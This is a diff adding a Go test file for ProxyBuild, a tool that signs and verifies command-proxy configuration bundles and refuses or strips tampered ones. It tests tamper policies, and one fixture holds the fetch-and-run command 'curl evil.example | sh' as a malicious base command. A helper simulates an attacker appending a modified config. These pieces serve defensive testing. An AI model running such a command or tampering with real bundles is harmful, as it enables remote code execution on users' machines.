@@ -0,0 +1,202 @@
+package tests
+
+import (
+	"crypto/ed25519"
+	"crypto/rand"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"testing"
+
+	"ProxyBuild/proxy"
+)
+
+func TestSignBundle_Verify(t *testing.T) {
+	pub, priv, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	publicKey := proxy.NewMinisignPublicKey(pub).String()
+
+	sections := map[string][]byte{"config": []byte(`{"base_command": "echo"}`)}
+	proxy.SignBundle(sections, priv)
+	if err := proxy.VerifyBundle(sections, publicKey); err != nil {
+		t.Fatalf("Signed bundle should verify: %v", err)
+	}
+
+	sections["config"] = []byte(`{"base_command": "rm"}`)
+	if err := proxy.VerifyBundle(sections, publicKey); err == nil {
+		t.Error("Expected error for modified config")
+	}
+
+	otherPub, _, _ := ed25519.GenerateKey(rand.Reader)
+	delete(sections, proxy.ConfigSignatureSection)
+	if err := proxy.VerifyBundle(sections, proxy.NewMinisignPublicKey(otherPub).String()); err == nil {
+		t.Error("Expected error for unsigned bundle")
+	}
+}
+
+func TestLoadTrustedConfig_Policy(t *testing.T) {
+	pub, priv, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	publicKey := proxy.NewMinisignPublicKey(pub).String()
+
+	sections := map[string][]byte{"config": []byte(`{"base_command": "echo", "hooks": {"test": [{"command": "echo", "when": "before"}]}, "env_vars": {"A": "1"}}`)}
+	proxy.SignBundle(sections, priv)
+	trusted, err := proxy.TrustedBaseCommands(sections)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	config, err := proxy.LoadTrustedConfig(sections, publicKey, proxy.PolicyRefuse, trusted)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(config.Hooks) != 1 {
+		t.Errorf("Valid config should keep its hooks, got %v", config.Hooks)
+	}
+
+	sections["config"] = []byte(`{"base_command": "echo", "hooks": {"test": [{"command": "curl", "when": "before"}]}, "env_vars": {"A": "2"}}`)
+	if _, err := proxy.LoadTrustedConfig(sections, publicKey, proxy.PolicyRefuse, trusted); err == nil {
+		t.Error("Expected refuse policy to reject modified config")
+	}
+
+	config, err = proxy.LoadTrustedConfig(sections, publicKey, proxy.PolicyNoHooks, trusted)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if config.BaseCommand != "echo" || len(config.Hooks) != 0 || len(config.EnvVars) != 0 {
+		t.Errorf("no-hooks policy should only keep the base command, got %+v", config)
+	}
+
+	// Das Basis-Command kommt aus dem Runner, nicht aus dem manipulierten Bundle
+	sections["config"] = []byte(`{"base_command": "curl evil.example | sh", "executor": "shell", "base_command_probe": ["x"]}`)
+	config, err = proxy.LoadTrustedConfig(sections, publicKey, proxy.PolicyNoHooks, trusted)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if config.BaseCommand != "echo" || config.Executor != "" || config.BaseCommandProbe != nil {
+		t.Errorf("no-hooks policy should use the compiled base command, got %+v", config)
+	}
+	if _, err := proxy.LoadTrustedConfig(sections, publicKey, proxy.PolicyNoHooks, ""); err == nil || !strings.Contains(err.Error(), "Ausführung verweigert") {
+		t.Errorf("Expected refusal without compiled base command, got %v", err)
+	}
+
+	if err := proxy.ValidatePolicy("ignore"); err == nil {
+		t.Error("Expected error for unknown policy")
+	}
+}
+
+// tamperConfig hängt ein Bundle mit geänderter Konfiguration und der alten
+// Signatur an, wie es ein Angreifer ohne privaten Schlüssel könnte
+func tamperConfig(t *testing.T, path string, config string) {
+	t.Helper()
+	sections, err := proxy.ReadBundleFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	sections["config"] = []byte(config)
+
+	f, err := os.OpenFile(path, os.O_APPEND|os.O_WRONLY, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	if _, err := f.Write(proxy.EncodeBundle(sections)); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestBuildSigned_RuntimeVerification(t *testing.T) {
+	if testing.Short() {
+		t.Skip("compiles generated proxies")
+	}
+	if runtime.GOOS == "windows" || runtime.GOOS == "darwin" {
+		t.Skip("stub strategy is tested on ELF platforms")
+	}
+	proxyBuild := buildProxyBuild(t)
+
+	tmpDir := t.TempDir()
+	configFile := writeConfig(t, tmpDir, proxy.Config{
+		BaseCommand: "echo base",
+		Hooks: map[string][]proxy.Hook{
+			"test": {{Command: "echo", Args: []string{"hook"}, When: "before"}},
+		},
+	})
+	keyFile := filepath.Join(tmpDir, "key.pem")
+	if out, err := exec.Command(proxyBuild, "-gen-sign-key", keyFile).CombinedOutput(); err != nil {
+		t.Fatalf("key generation failed: %v\n%s", err, out)
+	}
+	tampered := `{"base_command": "echo evil-base", "hooks": {"test": [{"command": "echo", "args": ["evil"], "when": "before"}]}}`
+
+	build := func(t *testing.T, name string, args ...string) string {
+		output := filepath.Join(tmpDir, name)
+		args = append([]string{"-build", configFile, "-output", output}, args...)
+		if out, err := exec.Command(proxyBuild, args...).CombinedOutput(); err != nil {
+			t.Fatalf("build failed: %v\n%s", err, out)
+		}
+		return output
+	}
+
+	for _, strategy := range []string{"stub", "compile"} {
+		t.Run(strategy, func(t *testing.T) {
+			output := build(t, strategy+"-proxy", "-strategy", strategy, "-sign-key", keyFile)
+
+			out, err := exec.Command(output, "--proxy-verify").CombinedOutput()
+			if err != nil || !strings.Contains(string(out), "Signatur:      gültig") {
+				t.Fatalf("Expected valid signature: %v\n%s", err, out)
+			}
+			out, err = exec.Command(output, "test").CombinedOutput()
+			if err != nil || !strings.Contains(string(out), "hook") {
+				t.Fatalf("Signed proxy should run hooks: %v\n%s", err, out)
+			}
+		})
+	}
+
+	t.Run("refuse", func(t *testing.T) {
+		output := build(t, "refuse-proxy", "-strategy", "stub", "-sign-key", keyFile)
+		tamperConfig(t, output, tampered)
+
+		out, err := exec.Command(output, "test").CombinedOutput()
+		if err == nil || strings.Contains(string(out), "evil") {
+			t.Fatalf("Modified config should be refused:\n%s", out)
+		}
+		out, err = exec.Command(output, "--proxy-verify").CombinedOutput()
+		if err == nil || !strings.Contains(string(out), "UNGÜLTIG") {
+			t.Errorf("--proxy-verify should report the invalid signature: %v\n%s", err, out)
+		}
+	})
+
+	t.Run("no-hooks", func(t *testing.T) {
+		output := build(t, "nohooks-proxy", "-strategy", "stub", "-sign-key", keyFile, "-tamper-policy", "no-hooks")
+		tamperConfig(t, output, tampered)
+
+		// Auch das geänderte base_command wird ignoriert
+		out, err := exec.Command(output, "test").CombinedOutput()
+		if err != nil {
+			t.Fatalf("no-hooks policy should still run the base command: %v\n%s", err, out)
+		}
+		if strings.Contains(string(out), "evil") || !strings.Contains(string(out), "base test") || !strings.Contains(string(out), "Warnung") {
+			t.Errorf("Expected compiled base command without hooks and a warning, got:\n%s", out)
+		}
+	})
+
+	t.Run("no-hooks prebuilt stubs", func(t *testing.T) {
+		out, err := exec.Command(proxyBuild, "-build-stubs", filepath.Join(tmpDir, "stubs"), "-sign-key", keyFile, "-tamper-policy", "no-hooks").CombinedOutput()
+		if err == nil || !strings.Contains(string(out), "keine vorgebauten Stubs") {
+			t.Errorf("Expected error for prebuilt no-hooks stubs: %v\n%s", err, out)
+		}
+	})
+
+	t.Run("unsigned", func(t *testing.T) {
+		output := build(t, "unsigned-proxy", "-strategy", "stub")
+		out, err := exec.Command(output, "--proxy-verify").CombinedOutput()
+		if err != nil || !strings.Contains(string(out), "nicht geprüft") {
+			t.Errorf("Unsigned proxy should report missing verification: %v\n%s", err, out)
+		}
+	})
+}